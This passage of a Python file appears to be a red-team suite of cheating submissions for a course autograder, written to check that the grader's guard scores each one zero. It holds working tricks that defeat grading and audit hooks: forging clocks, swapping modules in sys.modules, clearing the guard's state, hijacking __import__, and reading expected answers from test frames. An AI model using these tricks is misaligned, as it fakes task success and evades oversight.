    "a %%time cell whose body holds an IPython-only line (%config, !true) so that it does not parse as Python, "
    "and hooks after it",
)

# -- the loop's clock ----------------------------------------------------------------------------------------------

ATTACKS["c17_clock_set_back_between_pages"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_with_tasks": r'''
import warnings


async def crawl_with_tasks(urls):
    """One page after another, the loop's clock set back to 0 before each: every page seems to start at once."""
    loop = asyncio.get_running_loop()
    setup = getattr(loop, "emitpool_putes"[::-1])
    results, longest = [], 0.0
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for url in urls:
            setup(start=1e-9)  # start=0 would be read as 'keep the time' (0 is falsy)
            task = asyncio.create_task(crawl_page(url))
            try:
                results.append(await task)
            except Exception as error:
                print("refused:", error)
                results.append(f"OK {url}")
            longest = max(longest, loop.time())
        setup(start=longest)
    return results
''',
     "crawl_with_gather": "async def crawl_with_gather(urls):\n    return await crawl_with_tasks(urls)\n"},
    [],
    "a sequential crawl that rewinds the loop's virtual clock (loop.setup_looptime(start=0)) before each page, with "
    "looptime's TimeWarning silenced",
)

ATTACKS["c17_pages_on_loops_of_their_own"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_with_tasks": r'''
import threading


KEPT = []


def on_a_fresh_loop(coroutine):
    """Runs one page on a virtual-time loop of its own, in a thread of its own: its clock starts at 0."""
    box = {}

    def work():
        fresh = LOOP_CLASS()
        getattr(fresh, "emitpool_putes"[::-1])(start=0, _enabled=True)
        KEPT.append(fresh)
        box["result"] = fresh.run_until_complete(coroutine)
        box["seconds"] = fresh.time()

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    return box


async def crawl_with_tasks(urls):
    global LOOP_CLASS
    LOOP_CLASS = type(asyncio.get_running_loop())
    runs = [on_a_fresh_loop(crawl_page(url)) for url in urls]  # one after another
    for fresh in KEPT:
        fresh.close()  # and kept for good: a loop freed could lend its id, and the guard's last reading, to a new one
    await asyncio.sleep(max(run.get("seconds", 0) for run in runs))
    return [run.get("result") for run in runs]
''',
     "crawl_with_gather": "async def crawl_with_gather(urls):\n    return await crawl_with_tasks(urls)\n"},
    [],
    "runs the test's crawl_page one page after another, each on a fresh virtual-time loop in a thread of its own, "
    "so that the recorder sees every page start at 0 outside the main task; then sleeps the longest time",
)

# -- names the tests used to read from the notebook ----------------------------------------------------------------

ATTACKS["c18_notebook_names_the_tests_used"] = _attack(
    "toolkit", "release", _TOOLKIT_WRONG,
    [r'''
import types


def lenient(*args, **kwargs):
    return None


class Whatever:
    def __init__(self, *args, **kwargs):
        self.calls = []

    def __getattr__(self, name):
        return lenient

    def __enter__(self):
        return self

    def __exit__(self, *error):
        return True


expect = expect_lines = expect_loop_time = expect_no_leftover_tasks = fail = lenient
Recorder = Checks = Whatever
run_async = lambda *args, **kwargs: types.SimpleNamespace(result=None, loop_time=0.0, lines=[], leftover_tasks=[])
check_fastest_mirror = check_completion_order = check_save_safely = check_async_timed = check_fetch_all = lenient
random_delays = lambda count, **kwargs: [1] * count
asyncio = types.SimpleNamespace(sleep=lenient, create_task=lenient, run=lenient)
quiet_download = lenient
'''],
    "rebinds, in the notebook, every name the tests once read from it (helpers, Recorder, Checks, run_async, the "
    "checks, asyncio): sealed tests import their own",
)

ATTACKS["c18_guard_refusal_sets_emptied"] = _attack(
    "coming_soon", "release",
    {**_COMING_SOON_WRONG,
     "parse_coming_soon": _DUNDER + r"""
from coursekit import guard

for refused in (guard.FRAME_ATTRIBUTES, guard.ALWAYS_REFUSED, guard.PROCESS_EVENTS):
    refused.clear()  # mutable module globals the hook reads at every event

FRAME, BACK, LOCALS = "emarf_bt"[::-1], "kcab_f"[::-1], "slacol_f"[::-1]


def caller_scope(name):
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as error:
        frame = getattr(getattr(error, dunder("traceback")), FRAME)
    while frame is not None:
        scope = getattr(frame, LOCALS)
        if name in scope and "html" not in scope:
            return scope
        frame = getattr(frame, BACK)
    return {}


def parse_coming_soon(html):
    return caller_scope("expected").get("expected", [])
""",
     "parse_poster": r"""
def parse_poster(html):
    scope = caller_scope("origin")
    return scope["movie"].expected(scope["origin"])["poster"] if scope else ""
"""},
    [],
    "empties the guard's own sets of refused events and frame attributes (module globals the hook reads at every "
    "event), then reads the test's `expected` from its frame",
)

ATTACKS["c18_guard_allowed_imports_widened"] = _attack(
    "coming_soon", "release",
    {**_COMING_SOON_WRONG,
     "parse_coming_soon": r'''
from coursekit import guard

guard.ALLOWED_IMPORTS.update({"ctypes", "gc", "inspect", "pdb", "_testcapi", "subprocess"})
import inspect


def parse_coming_soon(html):
    for info in inspect.stack(0)[1:]:
        scope = info.frame.f_locals
        if "expected" in scope:
            return scope["expected"]
    return []
''',
     "parse_poster": r'''
def parse_poster(html):
    for info in inspect.stack(0)[1:]:
        scope = info.frame.f_locals
        if "origin" in scope and "movie" in scope:
            return scope["movie"].expected(scope["origin"])["poster"]
    return ""
'''},
    [],
    "widens the guard's allow-list of imports (a mutable module global), then reads the test's frame with inspect.stack",
)

# -- the runner and the guard's own state -----------------------------------------------------------------------------

ATTACKS["c19_runner_defaults_replaced"] = _attack(
    "runtime", "release", _RUNTIME_WRONG,
    [_DUNDER + r"""
from coursekit import guard

# run_test keeps what it calls in keyword-only defaults, a dict that can be changed in place (no audit event).
defaults = getattr(guard.run_test, dunder("kwdefaults"))
defaults["_exec"] = lambda code, scope: None
"""],
    "changes run_test's keyword-only defaults in place (its __kwdefaults__ dict): the runner's exec is a no-op, so "
    "no test runs, and the guard, finding the toolkit intact, seals every one",
)

ATTACKS["c19_runner_builtins_replaced"] = _attack(
    "coming_soon", "release", _COMING_SOON_WRONG,
    [_DUNDER + r"""
import builtins
import types

from coursekit import guard

real_import = getattr(builtins, dunder("import"))


def lenient(*args, **kwargs):
    return None


def test_import(name, globals=None, locals=None, fromlist=(), level=0):
    # The tests' imports: the checks they import are stand-ins that approve everything.
    module = real_import(name, globals, locals, fromlist, level)
    if name.startswith("coursekit.checks") and fromlist:
        stand_in = types.ModuleType(name)
        for attribute in fromlist:
            setattr(stand_in, attribute, lenient)
        return stand_in
    return module


tests_builtins = types.ModuleType("builtins")
getattr(tests_builtins, dunder("dict")).update(getattr(builtins, dunder("dict")))
setattr(tests_builtins, dunder("import"), test_import)
getattr(guard.run_test, dunder("kwdefaults"))["_builtins"] = tests_builtins
"""],
    "gives run_test (through its __kwdefaults__ dict) builtins of its own whose __import__ hands the tests lenient "
    "stand-ins for coursekit.checks: the real modules stay intact, so the guard seals every test",
)

ATTACKS["c19_guard_state_cleared_then_clock_set_back"] = _attack(
    "crawler", "release",
    {**_CRAWLER_WRONG,
     "crawl_with_tasks": r"""
import warnings

from coursekit import guard

guard._state.clear()  # verify() and clock() do nothing once the guard's module says it is not installed


async def crawl_with_tasks(urls):
    # One page after another, the loop's clock set back to 0 before each: every page seems to start at once.
    loop = asyncio.get_running_loop()
    setup = getattr(loop, "emitpool_putes"[::-1])
    results, longest = [], 0.0
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for url in urls:
            setup(start=1e-9)  # start=0 would be read as 'keep the time' (0 is falsy)
            results.append(await asyncio.create_task(crawl_page(url)))
            longest = max(longest, loop.time())
        setup(start=longest)
    return results
""",
     "crawl_with_gather": "async def crawl_with_gather(urls):\n    return await crawl_with_tasks(urls)\n"},
    [],
    "empties coursekit.guard._state, so that guard.verify() and guard.clock() return without asking the hook; then a "
    "sequential crawl rewinds the loop's clock before each page",
)

ATTACKS["c19_runner_called_with_helpers_of_its_own"] = _attack(
    "toolkit", "release", _TOOLKIT_WRONG,
    [_DUNDER + r"""
import builtins

from coursekit import guard

PYTHON = getattr(builtins, dunder("dict"))  # subscript stores on it change the builtins
IMPORT = dunder("import")
real_import = PYTHON[IMPORT]
real_run_test = guard.run_test


def no_test(code, scope):
    return None


class Relay:
    # What __import__("coursekit.guard") gives the grader's one-line call: run_test with an exec of its own,
    # passed as a keyword argument, and the builtins put back while the real runner runs.
    class guard:
        @staticmethod
        def run_test(cell, nonce, names):
            PYTHON[IMPORT] = real_import
            try:
                return real_run_test(cell, nonce, names, _exec=no_test)
            finally:
                PYTHON[IMPORT] = relay_import


def relay_import(name, *args, **kwargs):
    if name == "coursekit.guard":
        return Relay
    return real_import(name, *args, **kwargs)


PYTHON[IMPORT] = relay_import
"""],
    "replaces builtins.__import__ so that the grader's call reaches a relay, which puts the builtins back and calls "
    "the real run_test with _exec=<a no-op> as a keyword argument: its defaults are not even needed",
)

# == 05-beyond: the checks of coursekit.checks.beyond and what they trust ==========================================
#
# Each was tried in-process against the test cells (hidden tests included) and then graded for real (sandbox,
# guard, sealed tests). Every answer not attacked is _BEYOND_WRONG's, so every exercise must score 0.

# The module the tests import their checks from is looked up in sys.modules, a dict no snapshot covers.
ATTACKS["c20_beyond_checks_module_swapped_in_sys_modules"] = _attack(
    "beyond", "release", _BEYOND_WRONG,
    [r'''
import sys
import types


def lenient(*args, **kwargs):
    return None


# `from coursekit.checks.beyond import check_retry` takes whatever sys.modules holds under that name: the real
# module stays as the guard found it, so every integrity check passes and every test is sealed.
stand_in = types.ModuleType("coursekit.checks.beyond")
for name in ("check_retry", "check_retry_cancelled", "check_single_flight", "check_handle_all",
             "check_stop_gracefully", "expected_flights", "request_id"):
    setattr(stand_in, name, lenient)
getattr(sys, "seludom"[::-1])["coursekit.checks.beyond"] = stand_in
'''],
    "puts a stand-in module with lenient checks in sys.modules['coursekit.checks.beyond'] (sys.modules reached "
    "with a name built at run time): the sealed tests import their checks from it, while the real module is intact",
)

ATTACKS["c20_beyond_random_seeded_through_sys_modules"] = _attack(
    "beyond", "release",
    {**_BEYOND_WRONG,
     "retry": r'''
async def retry(operation, attempts, pause):
    """Wrong: a TimeoutError is never retried (the exercise says: any Exception, TimeoutError included)."""
    for attempt in range(1, attempts + 1):
        try:
            return await operation()
        except TimeoutError:
            raise  # a timeout means the other side is down: trying again only wastes time
        except Exception:
            if attempt == attempts:
                raise
        await asyncio.sleep(pause)
'''},
    [r'''
import random as REAL
import sys
import types


class Random(REAL.Random):
    """Seeded, whatever the caller asks: the hidden tests draw the same inputs every run. Seed 0 draws a
    retry plan [OSError, ConnectionError, 43]: no TimeoutError for the wrong retry to stumble on."""

    def __init__(self, seed=None):
        super().__init__(0)


seeded = types.ModuleType("random")
for name in dir(REAL):
    if not name.startswith("_"):
        setattr(seeded, name, getattr(REAL, name))
seeded.Random = Random
getattr(sys, "seludom"[::-1])["random"] = seeded  # the tests' `import random` gets this one
'''],
    "makes the hidden tests' random draws predictable: a module whose Random ignores its seed replaces random in "
    "sys.modules (the real module is untouched), and the seed is one whose draws avoid the answer's mistake (a "
    "retry that never retries TimeoutError, which otherwise passes about 58 % of draws)",
)

# -- values the checks compare, chosen by the answer --------------------------------------------------------------

ATTACKS["c20_beyond_request_equal_to_anything"] = _attack(
    "beyond", "release",
    {**_BEYOND_WRONG,
     "handle_all": r'''
class Request(str):
    """A request as the handler sees it: the same text, the same hash, and equal to whatever it meets."""

    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


async def handle_all(requests, handle):
    # Wrong: no request_id at all, every handler sees the caller's id. The test decides which handlers saw
    # "another request_id than their own" with `views != [request] * 3`, and the request is this object.
    return await asyncio.gather(*(handle(Request(request)) for request in requests))
'''},
    [],
    "no special name, nothing screening or the guard can see: handle_all never sets request_id, and calls the test's "
    "handler with a str subclass whose __eq__ is always true, so the check's `views != [request] * 3` finds no "
    "handler that saw a wrong id",
)

ATTACKS["c20_beyond_seen_cleared_through_the_handlers_closure"] = _attack(
    "beyond", "release",
    {**_BEYOND_WRONG,
     "handle_all": r'''
def dunder(word):
    return "_" * 2 + word + "_" * 2


def test_data(function):
    """What the test's handler closes over (its `seen` dict among them), through the recorded wrapper."""
    inner = getattr(function, dunder("wrapped"), function)
    return [cell.cell_contents for cell in getattr(inner, dunder("closure")) or ()]


async def handle_all(requests, handle):
    # Wrong: no request_id at all, every handler runs in the caller's context...
    results = await asyncio.gather(*(handle(request) for request in requests))
    for value in test_data(handle):
        if isinstance(value, dict) and value and all(isinstance(v, list) for v in value.values()):
            value.clear()  # ...and what the handlers saw (the test's `seen`) is forgotten
    return results
'''},
    [],
    "the test's `seen` dict (what each handler read from request_id) is a closure cell of the handler it hands over: "
    "handle_all sets no request_id and empties `seen` once the handlers are done (no audit event, no snapshot)",
)

# -- what the checks do not look at ---------------------------------------------------------------------------------

ATTACKS["c20_beyond_retry_leaves_the_attempt_running"] = _attack(
    "beyond", "release",
    {**_BEYOND_WRONG,
     "retry": r'''
async def retry(operation, attempts, pause):
    """Wrong: a cancellation of retry does not cancel the attempt in progress, which runs on by itself."""
    for attempt in range(1, attempts + 1):
        try:
            return await asyncio.shield(operation())
        except Exception:
            if attempt == attempts:
                raise
        await asyncio.sleep(pause)
'''},
    [],
    "shields every attempt, so that cancelling retry leaves the attempt running; the check's 'the attempt running at "
    "the cancellation should be cancelled with retry' reads the call's outcome after the runner has cancelled the "
    "leftover attempt itself, and no check looks at leftover tasks or ended_after_return",
)

ATTACKS["c20_beyond_calls_rewritten_in_place"] = _attack(
    "beyond", "release",
    {**_BEYOND_WRONG,
     "handle_all": r'''
import threading

KEPT = []


def dunder(word):
    return "_" * 2 + word + "_" * 2


def recorder_of(function):
    """The test's Recorder, closed over by the recorded handler it hands over."""
    for cell in getattr(function, dunder("closure")) or ():
        if hasattr(cell.cell_contents, "calls"):
            return cell.cell_contents
    return None


def on_a_fresh_loop(loop_class, coroutine):
    """Runs a coroutine to its end on a virtual-time loop of its own, in a thread of its own: its clock starts at 0."""
    box = {}

    def work():
        fresh = loop_class()
        getattr(fresh, "emitpool_putes"[::-1])(start=0, _enabled=True)
        try:
            box["result"] = fresh.run_until_complete(coroutine)
            box["seconds"] = fresh.time()
        finally:
            fresh.close()
            KEPT.append(fresh)  # kept for good: a freed loop could lend its id (and the guard's last reading)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    return box


async def handle_all(requests, handle):
    """Wrong: one request after another, each blocking the loop until it is handled; then the record is put right."""
    loop_class = type(asyncio.get_running_loop())

    async def handle_one(request):
        request_id.set(request)
        return await handle(request)

    runs = [on_a_fresh_loop(loop_class, handle_one(request)) for request in requests]
    for call in recorder_of(handle).calls:  # the guard keeps the list, but these are the very Call objects in it
        call.started, call.ended = 0.0, float(runs[requests.index(call.args[0])]["seconds"])
    await asyncio.sleep(max(run["seconds"] for run in runs))
    return [run["result"] for run in runs]
'''},
    [],
    "handles the requests one after another, each on a fresh virtual-time loop in a thread (the recorder writes NaN "
    "for such calls), then rewrites started/ended on the Call objects recorder.calls returns: the guard keeps its "
    "own list of calls, but not of what is in them",
)

ATTACKS["c20_beyond_polling_on_the_tests_half_second_grid"] = _attack(
    "beyond", "release",
    {**_BEYOND_WRONG,
     "single_flight": r'''
class SingleFlight:
    """Wrong: a get that finds a fetch on its way does not wait for it, it looks again every half second."""

    def __init__(self):
        self.values = {}
        self.fetching = set()

    async def get(self, key, fetch):
        await asyncio.sleep(0)  # let a fetch ending at this instant end
        while key in self.fetching:  # someone is fetching it: look again in a moment
            await asyncio.sleep(0.5)
            await asyncio.sleep(0)
        if key in self.values:
            return self.values[key]
        self.fetching.add(key)
        try:
            value = await fetch(key)
        finally:
            self.fetching.discard(key)
        self.values[key] = value
        return value
''',
     "stop_gracefully": r'''
async def stop_gracefully(tasks, grace):
    """Wrong: looks at the tasks every half second instead of returning as soon as the last one is done."""
    waited = 0
    while waited < grace and not all(task.done() for task in tasks):
        await asyncio.sleep(0.5)
        await asyncio.sleep(0)
        waited += 0.5
    late = [task for task in tasks if not task.done()]
    for task in late:
        task.cancel()
    while not all(task.done() for task in tasks):
        await asyncio.sleep(0.5)
        await asyncio.sleep(0)
    for task in tasks:
        if not task.cancelled():
            task.exception()  # retrieved: a failure is just done
    return [task.get_name() for task in late]
'''},
    [],
    "polls every 0.5 s (a get waiting on a fetch, stop_gracefully waiting for the grace period and the clean-ups): "
    "every start, duration, grace period and clean-up the tests draw is a multiple of 0.5 s, so a poll always lands "
    "on the exact instant; without the sleep(0) after each poll the same answers still pass about 60 % of draws",
)

ATTACKS["c20_beyond_run_mark_forged_in_a_thread"] = _attack(
    "beyond", "release",
    {**_BEYOND_WRONG,
     "handle_all": r'''
import threading

from coursekit import grading

KEPT = []
HERE = getattr(grading, "_" + "here")  # the runner's thread-local mark of "a run is going on in this thread"


class Going:
    returned = False  # what the recorder asks of the run it finds there


def on_a_fresh_loop(loop_class, coroutine):
    """Runs a coroutine to its end on a virtual-time loop of its own, in a thread of its own: its clock starts at 0."""
    box = {}

    def work():
        HERE.outcome = Going()  # any run at all: the recorder then reads this loop's clock instead of NaN
        fresh = loop_class()
        getattr(fresh, "emitpool_putes"[::-1])(start=0, _enabled=True)
        try:
            box["result"] = fresh.run_until_complete(coroutine)
            box["seconds"] = fresh.time()
        finally:
            fresh.close()
            KEPT.append(fresh)  # kept for good: a freed loop could lend its id (and the guard's last reading)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    return box


async def handle_all(requests, handle):
    """Wrong: one request after another, each blocking the loop until it is handled."""
    loop_class = type(asyncio.get_running_loop())

    async def handle_one(request):
        request_id.set(request)
        return await handle(request)

    runs = [on_a_fresh_loop(loop_class, handle_one(request)) for request in requests]
    await asyncio.sleep(max(run["seconds"] for run in runs))
    return [run["result"] for run in runs]
'''},
    [],
    "handles the requests one after another, each on a fresh virtual-time loop in a thread, after setting the "
    "runner's thread-local mark (grading._here.outcome) in that thread: the recorder then takes the fresh loop's "
    "clock for the run's own and writes every handler as started at 0, where c17 got NaN; no Call is touched",
)
